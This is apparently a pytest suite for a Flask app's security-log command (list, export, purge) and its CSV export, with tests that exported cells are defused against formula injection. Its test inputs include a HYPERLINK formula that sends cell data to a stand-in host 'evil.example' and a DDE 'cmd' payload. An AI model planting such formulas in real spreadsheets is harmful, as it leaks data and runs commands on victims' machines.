"""`flask security-log`: list, export, purge; and the table for a spreadsheet."""

import csv
import json
from collections.abc import Callable
from io import StringIO
from uuid import UUID

import pytest
from flask import Flask

from app.core import clock
from app.extensions import db
from app.security_log import csv_export
from app.security_log.csv_export import COLUMNS, defused, stream_csv
from app.security_log.models import SecurityEvent, SecurityEventOrigin
from app.security_log.service import Wanted
from tests.conftest import Browser, Clock
from tests.security_log.conftest import ADA, FIREFOX, WRONG, public_id, sign_in_as


def run(app: Flask, *arguments: str, code: int = 0) -> str:
    """Run a command and return what it says."""
    done = app.test_cli_runner().invoke(args=["security-log", *arguments])
    assert done.exit_code == code, done.output
    return str(done.output)


@pytest.fixture
def story(app: Flask, user: str, grace: Browser) -> str:
    """Two people's events; returns the public id of the one."""
    browser = Browser(app, "203.0.113.7")
    sign_in_as(browser, FIREFOX, password=WRONG)
    sign_in_as(browser, FIREFOX)
    return public_id(app)


def test_events_are_listed_and_narrowed(app: Flask, story: str, moving_clock: Clock) -> None:
    lines = [line.split("\t") for line in run(app, "list").splitlines()]
    assert [line[1:5] for line in lines[:2]] == [
        ["signed_in", story, "none", "203.0.113.7"],
        ["sign_in_refused", story, "none", "203.0.113.7"],
    ]
    assert len(run(app, "list", "--limit", "1").splitlines()) == 1
    for narrowed in (["--email", ADA.upper()], ["--account", story]):
        listed = run(app, "list", *narrowed)
        assert {line.split("\t")[2] for line in listed.splitlines()} == {story}
    assert len(run(app, "list", "--kind", "signed_in").splitlines()) == 2
    tomorrow = f"{clock.now():%Y}-12-31"
    assert run(app, "list", "--since", "9999-12-31", "--until", tomorrow) == ""


@pytest.mark.parametrize(
    ("arguments", "says"),
    [
        (["--email", "nobody@example.com"], "There is no account for nobody@example.com"),
        (["--email", "nobody"], "Invalid value for '--email'"),
        (["--kind", "anything"], "Invalid value for '--kind'"),
        (["--since", "yesterday"], "Invalid value for '--since'"),
    ],
)
@pytest.mark.parametrize("command", ["list", "export"])
def test_what_cannot_be_meant_is_one_sentence(
    app: Flask, command: str, arguments: list[str], says: str
) -> None:
    done = app.test_cli_runner().invoke(args=["security-log", command, *arguments])
    assert done.exit_code in (1, 2)
    assert says in done.output


def test_what_is_due_is_purged_to_the_end(app: Flask, story: str, moving_clock: Clock) -> None:
    assert run(app, "purge") == "Shortened and removed: 0.\n"
    moving_clock.forward(days=366)
    assert run(app, "purge") != "Shortened and removed: 0.\n"
    assert run(app, "list") == ""


def test_the_table_is_read_back_whole(app: Flask, story: str) -> None:
    text = run(app, "export", "--email", ADA)
    rows = list(csv.DictReader(StringIO(text, newline="")))
    assert set(rows[0]) == set(COLUMNS)
    newest = rows[0]
    assert (newest["kind"], newest["account"], newest["address"]) == (
        "signed_in",
        story,
        "203.0.113.7",
    )
    assert newest["user_agent"] == FIREFOX
    assert json.loads(newest["details"]) == {"amr": ["pwd"], "known_device": False}
    assert newest["happened_at"].endswith("+00:00")


def test_the_table_is_rfc_4180(app: Flask, story: str) -> None:
    with app.app_context():
        lines = list(stream_csv(Wanted()))
    assert len(lines) > 2
    for line in lines:
        assert line.endswith('"\r\n')
        assert line.startswith('"')
        assert line.count("\n") == 1


def test_the_table_is_written_while_it_is_read(
    app: Flask, user: str, monkeypatch: pytest.MonkeyPatch, statements: list[str]
) -> None:
    """However long the log, a page of it is in memory, and no transaction waits for the client."""
    monkeypatch.setattr(csv_export, "BATCH", 4)
    with app.app_context():
        now = clock.now()
        for number in range(10):  # all of one moment: the row decides
            db.session.add(
                SecurityEvent(
                    public_id=UUID(int=number),
                    happened_at=now,
                    kind="signed_in",
                    method="none",
                    request_id="-",
                    details={},
                )
            )
        db.session.commit()
        statements.clear()
        table = stream_csv(Wanted(kind="signed_in"))
        next(table)
        assert statements == []
        next(table)
        assert len(statements) == 1
        assert db.engine.pool.checkedout() == 0  # type: ignore[attr-defined]
        ids = [line.split('"')[1] for line in table]
    assert len(statements) == 3
    assert ids == [str(UUID(int=number)) for number in range(8, -1, -1)]


@pytest.mark.asvs("1.2.10")
@pytest.mark.parametrize(
    "cell",
    [
        "=1+1",
        "+1",
        "-1",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "|cmd",
        " =1",
        '"=1',
        "'=1",
        "\u3000=1",
        "\uff1d1",
        "\uff0b1",
        "\uff0d1",
        "\uff20SUM(A1)",
        '=HYPERLINK("http://evil.example/?"&A1)',
        "=cmd|' /C calc'!A0",
    ],
)
def test_no_cell_is_a_formula(cell: str) -> None:
    assert defused(cell) == f"'{cell}"


@pytest.mark.parametrize("cell", ["", "Mozilla/5.0", "192.0.2.1", "a=b", '{"role": "=1"}', "'"])
def test_other_cells_stay_as_they_are(cell: str) -> None:
    assert defused(cell) == cell


@pytest.mark.asvs("1.2.10")
def test_a_browser_that_calls_itself_a_formula_is_a_text(
    app: Flask, user: str, new_browser: Callable[..., Browser]
) -> None:
    formula = '=HYPERLINK("http://evil.example/","click"),"=1'
    sign_in_as(new_browser(), formula)
    (row, *_) = csv.DictReader(StringIO(run(app, "export", "--kind", "signed_in"), newline=""))
    assert row["user_agent"] == f"'{formula}"
    with app.app_context():
        (stored,) = db.session.scalars(db.select(SecurityEventOrigin.user_agent))
    assert stored == formula
